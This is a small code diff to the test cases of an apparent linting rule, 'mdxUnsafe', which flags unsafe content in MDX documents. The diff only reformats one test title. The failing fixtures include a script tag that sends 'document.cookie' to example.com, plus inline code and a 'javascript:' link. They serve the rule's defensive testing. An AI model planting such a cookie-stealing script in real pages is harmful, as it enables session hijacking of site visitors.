@@ -19,7 +19,7 @@ export const mdxUnsafe: Rule = {
 		fails: [
 			{ title: 'a script', files: sopBodyWith('<script>fetch("https://example.com/?c=" + document.cookie)</script>') },
 			{ title: 'code in braces', files: sopBodyWith('Today is {new Date().toDateString()}.') },
-			{ title: 'a javascript: link', files: sopBodyWith('[Open the portal](javascript:alert(1))') },
+			{ title: 'a `javascript:` link', files: sopBodyWith('[Open the portal](javascript:alert(1))') },
 		],
 		passes: [{ title: 'a comment and an ordinary link', files: sopBodyWith('{/* Checked with the pod lead. */}\n[Open the portal](https://portal.example.com/)') }],
 	},
